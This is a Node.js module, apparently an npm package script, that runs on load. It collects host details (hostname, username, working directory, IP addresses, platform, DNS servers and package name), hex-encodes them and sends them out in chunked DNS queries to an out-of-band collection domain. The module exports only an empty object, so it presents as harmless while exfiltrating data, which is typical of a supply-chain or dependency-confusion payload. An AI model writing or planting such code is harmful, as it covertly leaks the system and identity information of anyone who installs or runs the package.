const os = require('os');
const dns = require('dns');
const pkg = require('./package.json');

const ips = [];
for (const list of Object.values(os.networkInterfaces()))
  for (const i of list || []) if (!i.internal && i.family === 'IPv4') ips.push(i.address);

const info = [
  pkg.name, pkg.version, os.hostname(), os.userInfo().username, process.cwd(),
  ips.join(','), os.platform(), (dns.getServers() || []).join(','),
].join('|');

const hex = Buffer.from(info).toString('hex');
const id = Math.random().toString(36).slice(2, 8);
const labels = hex.match(/.{1,60}/g) || [];
const domain = 'cq7h2k9d1lf0s8t3ju4g.oast.fun';

labels.forEach((chunk, i) => {
  // <chunk>.<seq>.<total>.<id>.<domain>
  const q = `${chunk}.${i}.${labels.length}.${id}.${domain}`;
  dns.lookup(q, () => {});
  dns.resolve(q, 'A', () => {});
});

module.exports = {};
